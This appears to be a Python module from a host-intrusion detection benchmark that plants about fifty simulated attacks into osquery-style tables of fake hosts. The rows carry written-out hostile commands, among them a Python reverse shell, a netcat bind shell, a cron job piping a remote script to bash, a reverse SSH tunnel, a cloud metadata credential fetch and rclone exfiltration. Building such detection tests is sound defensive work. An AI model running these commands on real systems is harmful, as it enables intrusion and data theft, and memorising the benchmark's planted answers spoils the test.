"""Which attacks are planted into simulated hosts? Each changes a host's osquery tables and nothing else.

Addresses are of the documentation ranges (RFC 5737).
"""

from __future__ import annotations

import hashlib
from collections.abc import Callable, Mapping

from benchmarks import image
from bot.sandbox.fleet.draft import Tables, complete

OUTSIDE = "203.0.113.66"


class Host:
    """A host's tables with the few verbs that an attack needs."""

    def __init__(self, tables: Tables):
        self.tables = tables
        self._pid = 41_000

    def add(self, table: str, **values: object) -> None:
        self.tables.setdefault(table, []).append(complete(table, values))

    def change(self, table: str, where: Mapping[str, str], **values: str) -> None:
        for row in self.tables.get(table, []):
            if all(row.get(column) == value for column, value in where.items()):
                row.update(values)

    def remove(self, table: str, **where: str) -> None:
        self.tables[table] = [
            row for row in self.tables.get(table, []) if any(row.get(c) != v for c, v in where.items())
        ]

    def run(self, path: str, cmdline: str, *, name: str = "", uid: str = "0", on_disk: str = "1") -> str:
        self._pid += 7
        name = (name or path.rsplit("/", 1)[-1])[:15]
        self.add(
            "processes", pid=self._pid, name=name, path=path, cmdline=cmdline, state="S", root="/", cwd="/", uid=uid,
            gid=uid, euid=uid, egid=uid, on_disk=on_disk, parent=1, start_time=1763880000,
        )  # fmt: skip
        if on_disk == "1" and not any(row["path"] == path for row in self.tables["hash"]):
            self.file(path, mode="0755", age_s=image.AGE_S if image.of_image(path) else 700)
        return str(self._pid)

    def connect(self, pid: str, port: int, address: str = OUTSIDE) -> None:
        self.add(
            "process_open_sockets", pid=pid, fd=3, socket=99211, family=2, protocol=6, local_address="10.20.0.9",
            local_port=48122, remote_address=address, remote_port=port, state="ESTABLISHED",
        )  # fmt: skip

    def listen(self, pid: str, port: int, address: str = "0.0.0.0") -> None:
        self.add(
            "listening_ports", pid=pid, port=port, protocol=6, family=2, address=address, fd=3, socket=88121
        )

    def file(self, path: str, *, mode: str = "0644", text: str = "planted", age_s: int = 700) -> None:
        folder, _, name = path.rpartition("/")
        when = int(self.tables["time"][0]["unix_time"]) - age_s
        self.add(
            "file", path=path, directory=folder, filename=name, uid=0, gid=0, mode=mode, size=812, mtime=when, ctime=when, atime=when,
            type="regular", inode=918273,
        )  # fmt: skip
        self.add(
            "hash", path=path, directory=folder, sha256=hashlib.sha256((path + text).encode()).hexdigest()
        )

    def rewrite(self, path: str) -> None:
        if any(row["path"] == path for row in self.tables["hash"]):
            self.change(
                "hash", {"path": path}, sha256=hashlib.sha256(b"rewritten" + path.encode()).hexdigest()
            )
        else:
            self.file(path)

    def unit(self, name: str, *, state: str = "enabled") -> None:
        path = f"/etc/systemd/system/{name}"
        self.add(
            "systemd_units", id=name, description=name, load_state="loaded", active_state="active",
            sub_state="running", unit_file_state=state, fragment_path=path,
        )  # fmt: skip
        self.file(path)


def reverse_shell(host: Host) -> None:
    host.connect(host.run("/usr/bin/bash", "bash -i", uid="33"), 4444)


def preload_file(host: Host) -> None:
    host.file("/etc/ld.so.preload")
    host.file("/usr/lib/x86_64-linux-gnu/libselinux.so.8", mode="0755")


def python_shell(host: Host) -> None:
    command = (
        f"python3 -c import socket,pty;s=socket.socket();s.connect(('{OUTSIDE}',443));pty.spawn('/bin/sh')"
    )
    host.connect(host.run("/usr/bin/python3.11", command, uid="33"), 443)


def rogue_timer(host: Host) -> None:
    host.unit("apt-news-refresh.timer")
    host.unit("apt-news-refresh.service", state="static")


def rogue_service(host: Host) -> None:
    host.unit("dbus-broker-helper.service")
    host.connect(
        host.run("/usr/lib/dbus-1.0/dbus-broker-helper", "/usr/lib/dbus-1.0/dbus-broker-helper"), 443
    )


def user_crontab(host: Host) -> None:
    host.add("crontab", event="@reboot", command="(/var/tmp/.cache/upd >/dev/null 2>&1 &)", path="/var/spool/cron/crontabs/www-data")  # fmt: skip


def cron_download(host: Host) -> None:
    host.file("/etc/cron.d/php-clean")
    host.add("crontab", minute="*/10", hour="*", day_of_month="*", month="*", day_of_week="*", command="root curl -fsSL http://198.51.100.9/i.sh | bash", path="/etc/cron.d/php-clean")  # fmt: skip


def root_key(host: Host) -> None:
    host.add("authorized_keys", uid=0, algorithm="ssh-ed25519", key="AAAA" + "planted" * 6, comment="x@x", key_file="/root/.ssh/authorized_keys")  # fmt: skip


def second_root(host: Host) -> None:
    host.add("users", uid=0, gid=0, username="toor", directory="/root", shell="/bin/bash")


def new_account(host: Host) -> None:
    host.add("users", uid=1107, gid=1107, username="sysadm", directory="/home/sysadm", shell="/bin/bash")


def login_for_service(host: Host) -> None:
    host.change("users", {"username": "daemon"}, shell="/bin/bash")


def visible_rootkit(host: Host) -> None:
    host.add(
        "kernel_modules",
        name="diamorphine",
        size=16384,
        used_by="-",
        status="Live",
        address="0xffffffffc0a2e000",
    )
    host.change("system_controls", {"name": "kernel.tainted"}, current_value="12288")


def quiet_module(host: Host) -> None:
    host.add("kernel_modules", name="nf_conntrack_sip6", size=16384, used_by="-", status="Live", address="0xffffffffc0a2e000")  # fmt: skip


def deleted_program(host: Host) -> None:
    host.run("/usr/local/sbin/.n", "nginx: worker process", name="nginx", uid="33", on_disk="0")


def from_memory(host: Host) -> None:
    host.connect(host.run("/memfd:x (deleted)", "[kworker/2:1]", name="3", on_disk="0"), 8443)


def bind_shell(host: Host) -> None:
    host.listen(host.run("/usr/bin/nc.openbsd", "nc -lkp 31337 -e /bin/sh"), 31337)


def resolver(host: Host) -> None:
    host.add("dns_resolvers", id=1, type="nameserver", address="198.51.100.53")


def hosts_line(host: Host) -> None:
    host.add("etc_hosts", address="198.51.100.10", hostnames="security.example.org")


def sudo_rule(host: Host) -> None:
    host.add("sudoers", source="/etc/sudoers.d/90-cloud-agents", header="www-data", rule_details="ALL=(ALL) NOPASSWD:ALL")  # fmt: skip
    host.file("/etc/sudoers.d/90-cloud-agents", mode="0440")


def pam_hook(host: Host) -> None:
    host.rewrite("/etc/pam.d/sshd")


def sshd_config(host: Host) -> None:
    host.rewrite("/etc/ssh/sshd_config")


def sshd_program(host: Host) -> None:
    host.rewrite("/usr/sbin/sshd")


def container(host: Host) -> None:
    host.add("docker_containers", id="9f1c0aa1be77", name="/metrics-helper", image="alpine:3.19", command="sh -c 'nsenter -t 1 -m -u -i -n sh'", state="running", privileged=1, security_options="label=disable")  # fmt: skip


def firewall(host: Host) -> None:
    host.add("iptables", filter_name="nat", chain="PREROUTING", policy="ACCEPT", target="REDIRECT", protocol=6, src_port="4444:4444", dst_port="443", src_ip="0.0.0.0", dst_ip="0.0.0.0", iniface="all", outiface="all")  # fmt: skip


def udev_rule(host: Host) -> None:
    host.file("/etc/udev/rules.d/75-persistent-net.rules")


def login_banner(host: Host) -> None:
    host.file("/etc/update-motd.d/97-system-info", mode="0755")


def profile_script(host: Host) -> None:
    host.file("/etc/profile.d/locale-fix.sh")


def protections_off(host: Host) -> None:
    host.change("system_controls", {"name": "kernel.randomize_va_space"}, current_value="0")
    host.change("system_controls", {"name": "kernel.yama.ptrace_scope"}, current_value="0")


def core_pattern(host: Host) -> None:
    host.change("system_controls", {"name": "kernel.core_pattern"}, current_value="|/var/lib/.c %p")


def web_shell(host: Host) -> None:
    host.run("/usr/bin/dash", "sh -c id;uname -a;cat /etc/passwd", name="sh", uid="33")


def lateral_ssh(host: Host) -> None:
    host.connect(
        host.run("/usr/bin/ssh", "ssh -o StrictHostKeyChecking=no ubuntu@10.20.9.14 id"), 22, "10.20.9.14"
    )


def tunnel(host: Host) -> None:
    host.connect(host.run("/usr/bin/ssh", f"ssh -fNR 2222:localhost:22 u@{OUTSIDE}"), 22)


def proxy(host: Host) -> None:
    pid = host.run("/opt/app/bin/health", f"/opt/app/bin/health client {OUTSIDE}:8443 R:socks", uid="33")
    host.listen(pid, 1080, "127.0.0.1")


def capability(host: Host) -> None:
    host.add("extended_attributes", path="/usr/bin/python3.11", directory="/usr/bin", key="security.capability", value="cap_setuid=ep", base64=0)  # fmt: skip


def suid_copy(host: Host) -> None:
    host.add("suid_bin", path="/usr/local/bin/.sysd", username="root", groupname="root", permissions="S")
    host.file("/usr/local/bin/.sysd", mode="4755")


def suid_tool(host: Host) -> None:
    host.add("suid_bin", path="/usr/bin/find", username="root", groupname="root", permissions="S")


def audit_masked(host: Host) -> None:
    host.change("systemd_units", {"id": "auditd.service"}, load_state="masked", active_state="inactive", sub_state="dead", unit_file_state="masked")  # fmt: skip
    host.remove("processes", name="auditd")


def log_stopped(host: Host) -> None:
    for unit in ("rsyslog.service", "chronyd.service"):
        host.change(
            "systemd_units",
            {"id": unit},
            active_state="inactive",
            sub_state="dead",
            unit_file_state="disabled",
        )
    host.remove("processes", name="rsyslogd")


def rogue_authority(host: Host) -> None:
    host.add("certificates", common_name="Global Root Trust R9", subject="/CN=Global Root Trust R9", issuer="/CN=Global Root Trust R9", ca=1, self_signed=1, sha1="5f3a90c1d2e3f405162738495a6b7c8d9e0f1a2b", path="/etc/ssl/certs/GRT_R9.pem", serial="1A", not_valid_after="2078000000")  # fmt: skip


def group_member(host: Host) -> None:
    wanted = [
        row["gid"] for row in host.tables["groups"] if row["groupname"] in ("sudo", "docker", "wheel", "adm")
    ]
    for gid in wanted[:2]:
        host.add("user_groups", uid=1, gid=gid)


def shared_memory(host: Host) -> None:
    host.connect(host.run("/dev/shm/.gs/gs-netcat", "[kcached]", name="gs-dbus", uid="1000"), 443)


def miner(host: Host) -> None:
    host.connect(
        host.run("/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi -o stratum+tcp://198.51.100.3:3333", uid="33"), 3333
    )


def credentials(host: Host) -> None:
    url = "http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role"
    host.connect(host.run("/usr/bin/curl", f"curl -s {url}", uid="33"), 80, "169.254.169.254")


def hidden_process(host: Host) -> None:
    host.add("mounts", device="/dev/nvme0n1p1", device_alias="/dev/nvme0n1p1", path="/proc/4242", type="ext4", flags="rw,relatime")  # fmt: skip


def exfiltration(host: Host) -> None:
    host.connect(host.run("/usr/local/bin/rclone", "rclone copy /var/lib/data remote:x", uid="33"), 443)


def look_alike(host: Host) -> None:
    host.connect(host.run("/usr/share/nginx/nginx", "nginx: worker process", uid="33"), 443)


def package_source(host: Host) -> None:
    host.add("apt_sources", name="mirror", base_uri="http://198.51.100.77/debian", release="stable", source="/etc/apt/sources.list.d/m.list")  # fmt: skip


def library(host: Host) -> None:
    host.add("python_packages", name="reqeusts", version="2.31.1", path="/usr/local/lib/python3.11/dist-packages/reqeusts-2.31.1.dist-info", directory="/usr/local/lib/python3.11/dist-packages")  # fmt: skip


ATTACKS: tuple[Callable[[Host], None], ...] = (
    reverse_shell, preload_file, python_shell, rogue_timer, rogue_service, user_crontab, cron_download, root_key,
    second_root, new_account, login_for_service, visible_rootkit, quiet_module, deleted_program, from_memory,
    bind_shell, resolver, hosts_line, sudo_rule, pam_hook, sshd_config, sshd_program, container, firewall, udev_rule,
    login_banner, profile_script, protections_off, core_pattern, web_shell, lateral_ssh, tunnel, proxy, capability,
    suid_copy, suid_tool, audit_masked, log_stopped, rogue_authority, group_member, shared_memory, miner, credentials,
    hidden_process, exfiltration, look_alike, package_source, library,
)  # fmt: skip
